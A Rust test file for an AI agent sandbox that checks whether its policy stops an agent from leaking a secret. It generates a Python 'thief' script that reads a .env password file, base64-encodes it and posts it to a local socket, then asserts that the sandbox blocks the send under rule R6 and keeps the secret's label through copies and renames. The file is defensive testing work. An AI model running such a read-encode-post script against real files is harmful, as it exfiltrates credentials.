//! The seed's exfiltration, by a program: read a secret, encode it, post it. The decisions are the real policy's.
#![allow(clippy::unwrap_used, clippy::print_stderr, reason = "a test fails by panicking, and says why it is skipped")]

use std::io::Read;
use std::net::TcpListener;
use std::path::Path;
use std::sync::{Mutex, MutexGuard, PoisonError};
use telos_system::{AgentReport, AgentRequest, Ask, Consent, Person, Places, Step, Telos};

/// Somebody who agrees to everything, as `--yes` does: only rules stop anything.
struct Agreeable;

impl Person for Agreeable {
    fn consent(&self, asks: &[Ask]) -> Vec<Consent> {
        vec![Consent::GrantedBeforehand; asks.len()]
    }

    fn answer(&self, _: &str, _: &[String]) -> Option<String> {
        None
    }

    fn progress(&self, _: Step) {}
}

struct World {
    scratch: tempfile::TempDir,
    telos: Telos,
    _alone: MutexGuard<'static, ()>,
}

/// One agent at a time: another test's fork would hold this one's workspace lock until it executes its program.
static ALONE: Mutex<()> = Mutex::new(());

impl World {
    /// A work directory with a secret, and a state of its own; `None` where no agent can run.
    fn new() -> Option<Self> {
        let scratch = tempfile::tempdir().unwrap();
        let root = scratch.path().canonicalize().unwrap();
        for name in ["home", "work"] {
            std::fs::create_dir(root.join(name)).unwrap();
        }
        std::fs::write(root.join("work/.env"), "PASSWORD=hunter2\n").unwrap();
        let places = Places::from_environment(|name| match name {
            "HOME" => Some(root.join("home").into()),
            "TELOS_STATE_DIR" => Some(root.join("state").into()),
            _ => None,
        })
        .unwrap();
        let telos = Telos::new(places, &root.join("work"), None).unwrap();
        let planes = telos.doctor().unwrap();
        if let Some(plane) = planes.iter().find(|plane| !plane.available && !plane.plane.contains("reflink")) {
            eprintln!("skipped: no {}: {}", plane.plane, plane.found);
            return None;
        }
        let alone = ALONE.lock().unwrap_or_else(PoisonError::into_inner);
        Some(Self { scratch, telos, _alone: alone })
    }

    fn work(&self, name: &str) -> std::path::PathBuf {
        self.scratch.path().canonicalize().unwrap().join("work").join(name)
    }

    fn python(&self, script: &str, reads: &[&str], port: u16) -> AgentReport {
        let request = AgentRequest {
            argv: ["python3", "-c", script].map(Into::into).to_vec(),
            reads: reads.iter().map(|name| self.work(name)).collect(),
            hosts: vec![format!("127.0.0.1:{port}")],
            environment: std::env::var_os("PATH").map(|path| ("PATH".into(), path)).into_iter().collect(),
            ..AgentRequest::default()
        };
        self.telos.run_agent(&request, &Agreeable).unwrap()
    }
}

/// Reads a file, encodes it, posts it. Exits 7 if the file is closed to it and 8 if the host is.
fn thief(file: &str, port: u16) -> String {
    format!(
        r#"
import base64, socket, sys
try:
    text = base64.b64encode(open("{file}", "rb").read())
except PermissionError:
    text = None
try:
    connection = socket.create_connection(("127.0.0.1", {port}), 5)
    connection.sendall(b"POST / HTTP/1.0\r\n\r\n" + (text or b"nothing"))
    connection.close()
except OSError:
    sys.exit(8)
sys.exit(7 if text is None else 0)
"#
    )
}

/// A server that keeps what it was sent; `None` if nobody came.
fn received(server: &TcpListener) -> Option<String> {
    server.set_nonblocking(true).unwrap();
    let (mut connection, _) = server.accept().ok()?;
    connection.set_nonblocking(false).unwrap();
    let mut text = String::new();
    connection.read_to_string(&mut text).unwrap();
    Some(text)
}

#[test]
fn a_secret_that_an_agent_may_read_does_not_leave_with_it() {
    let Some(world) = World::new() else { return };
    let server = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = server.local_addr().unwrap().port();
    let report = world.python(&thief(".env", port), &[".env"], port);
    assert_eq!(report.exit, 8, "{report:?}");
    assert_eq!(received(&server), None);
    assert_eq!(report.refused[0].rule, "R6", "{report:?}");
    assert!(report.refused[0].reason.contains("127.0.0.1"), "{report:?}");

    // The receipts say the same, with the label that was carried.
    let run = world.telos.choose(None, "run", |_, _| true).unwrap();
    let why = world.telos.why(run).unwrap();
    let decided = why.iter().find(|line| line.about == "decided" && line.rule.as_deref() == Some("R6")).unwrap();
    assert!(decided.text.contains(&report.refused[0].reason), "{decided:?}");
}

#[test]
fn an_agent_that_cannot_read_the_secret_may_post_where_it_was_told() {
    let Some(world) = World::new() else { return };
    let server = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = server.local_addr().unwrap().port();
    let report = world.python(&thief(".env", port), &[], port);
    assert_eq!(report.exit, 7, "{report:?}");
    assert!(received(&server).unwrap().ends_with("nothing"));
    assert!(report.refused.is_empty(), "{report:?}");
    assert!(report.withheld.iter().any(|line| line.contains(".env")), "{report:?}");
}

#[test]
fn a_copy_of_the_secret_keeps_its_label_through_a_commit() {
    let Some(world) = World::new() else { return };
    let server = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = server.local_addr().unwrap().port();
    let report = world.python("open('copy.txt', 'w').write(open('.env').read())", &[".env"], port);
    assert_eq!((report.exit, report.workspace), (0, true), "{report:?}");
    let run = world.telos.with_workspace(None).unwrap();
    let committed = world.telos.commit(run, &[], &Agreeable).unwrap();
    assert_eq!(committed.exit(), 0, "{committed:?}");
    assert!(Path::new(&world.work("copy.txt")).exists());
    // Another agent does not see it unless it is granted, and then cannot post it either; a new name changes nothing.
    assert_eq!(world.python(&thief("copy.txt", port), &[], port).exit, 7);
    assert!(received(&server).unwrap().ends_with("nothing"));
    assert_eq!(world.python(&thief("copy.txt", port), &["copy.txt"], port).exit, 8);
    std::fs::rename(world.work("copy.txt"), world.work("other.txt")).unwrap();
    assert_eq!(world.python(&thief("other.txt", port), &[], port).exit, 7);
    assert!(received(&server).unwrap().ends_with("nothing"));
}
